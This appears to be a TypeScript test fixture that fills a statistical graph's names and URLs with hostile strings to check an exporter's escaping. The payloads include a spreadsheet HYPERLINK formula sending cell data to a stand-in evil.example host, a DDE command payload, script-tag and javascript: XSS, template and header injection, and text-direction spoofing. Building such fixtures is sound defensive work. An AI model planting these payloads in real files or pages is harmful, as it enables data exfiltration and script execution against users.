// A graph whose names try to leave the place they are written to: cells, quotes, lines, markup, scripts, addresses.
import { baseMcf, type Files, node } from '../statistics/read/support/folders.ts'

export const hostileNames: ReadonlyArray<string> = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
  'before;=1+1;@x',
  'before\t-1+1',
  'before\r+1',
  '"; "quotes" ""',
  'comma, "=1+1',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[link](javascript:alert(1)) ![x](http://evil.example/x.png)',
  '| a | b |\u2028# heading\u2029- item',
  '`code` *bold* <b>',
  '\u202egnp.exe',
  'nul \u0000 and bell \u0007',
  'yaml: "x"\\ #comment',
  '--- !!js/function "x"',
  '&anchor *alias {a: b}',
  '${7*7} {{7*7}} %0d%0aSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'lone \ufeff\ufffe marks',
  `long ${'word '.repeat(2_000)}`,
  `=${'x'.repeat(40_000)}`,
]

/** Text as MCF takes it; what a line cannot hold is not in the names above. */
const quoted = (text: string): string => `"${text.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`

export const entityOf = (i: number): string => `country/X${String(i).padStart(2, '0')}`
export const variable = 'hostile/variable'
export const variableName = '=2+2";\u202e</title><script>alert(2)</script>\u0000'
export const sourceName = '@evil\u2028authors:\t- "x"</script>'
export const provenanceName = '=1+1: "# title\u2028\t- name: evil'
export const licence = '[MIT](javascript:alert(1))|<script>'

export const hostileGraph: Files = {
  'nodes.mcf': [
    baseMcf,
    ...hostileNames.map((name, i) => node(entityOf(i), 'Country', `name: ${quoted(name)}`)),
    node(
      variable,
      'StatisticalVariable',
      `name: ${quoted(variableName)}`,
      'populationType: dcs:X',
      'measuredProperty: dcs:y',
    ),
    node('source/evil', 'Source', `name: ${quoted(sourceName)}`, 'url: "javascript:alert(1)"'),
    node('dataset/evil', 'Dataset', `name: ${quoted('=dataset')}`, 'isPartOf: dcid:source/evil'),
    node(
      'provenance/evil',
      'Provenance',
      `name: ${quoted(provenanceName)}`,
      'isPartOf: dcid:dataset/evil',
      'publisher: dcid:source/evil',
      'url: "javascript:alert(1)//http://"',
      'licenseUrl: "https://evil.example/\\" onclick=\\"x"',
      `licenseType: ${quoted(licence)}`,
      'lastDataRefreshDate: 2026-01-15',
    ),
  ].join(''),
  'flows.tmcf': [
    'Node: E:flows->E0',
    'typeOf: dcs:StatVarObservation',
    `variableMeasured: dcid:${variable}`,
    'observationAbout: C:flows->entity',
    'observationDate: C:flows->year',
    'value: C:flows->value',
    'provenance: dcid:provenance/evil',
    '',
  ].join('\n'),
  'flows.csv': ['entity,year,value', ...hostileNames.map((_, i) => `${entityOf(i)},2020,-${i}.5`), ''].join('\n'),
}
